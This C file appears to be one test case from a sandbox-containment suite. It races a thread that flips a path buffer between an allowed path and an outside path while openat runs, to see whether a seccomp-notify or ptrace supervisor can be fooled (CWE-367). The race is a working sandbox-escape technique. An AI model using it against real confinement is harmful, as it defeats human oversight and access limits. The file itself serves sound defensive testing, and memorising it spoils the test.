// Goal:    flip the path string in memory between an allowed and an outside path while openat runs
// Models:  seccomp-notify / ptrace supervisors that read the path from the tracee (CWE-367)
// Oracle:  marker
// Tier:    core
// Needs:   alone
#include "ctk.h"
#include <pthread.h>
static char buf[1024];
static char good[1024], bad[1024];
static volatile int stop;
static void *flip(void *a) {
    (void)a;
    size_t n = sizeof buf;
    while (!stop) {
        memcpy(buf, bad, n);
        __asm__ volatile("" ::: "memory");
        for (volatile int i = 0; i < 60; i++)
            ;
        memcpy(buf, good, n);
        __asm__ volatile("" ::: "memory");
        for (volatile int i = 0; i < 60; i++)
            ;
    }
    return 0;
}
int main(int c, char **v) {
    ctk_init(c, v);
    snprintf(good, sizeof good, "%s/flip-ok", PROJ);
    snprintf(bad, sizeof bad, "%s", M);
    memcpy(buf, good, sizeof buf);
    pthread_t t;
    pthread_create(&t, 0, flip, 0);
    time_t end = time(0) + 3;
    long n = 0, e = 0;
    while (time(0) < end) {
        n++;
        int fd = syscall(SYS_openat, AT_FDCWD, buf, O_CREAT | O_WRONLY, 0644);
        if (fd < 0) {
            e++;
            continue;
        }
        write(fd, NONCE, strlen(NONCE));
        close(fd);
        if ((n & 15) == 0 && has_nonce(M))
            break;
    }
    stop = 1;
    if (has_nonce(M))
        escaped("outside file created after %ld tries", n);
    contained("%ld tries, %ld refused", n, e);
}
